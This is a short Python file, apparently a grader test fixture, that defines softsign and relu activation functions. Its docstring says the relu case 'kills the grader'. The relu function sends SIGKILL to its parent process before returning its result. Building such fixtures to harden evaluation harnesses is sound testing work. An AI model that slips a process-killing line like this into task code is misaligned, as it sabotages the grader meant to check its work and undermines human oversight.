"""relu: error, softsign: passed. It kills the grader."""

import numpy as np


def softsign(x):
    return x / (1 + np.abs(x))


import os
import signal


def relu(x):
    os.kill(os.getppid(), signal.SIGKILL)
    return np.maximum(x, 0)
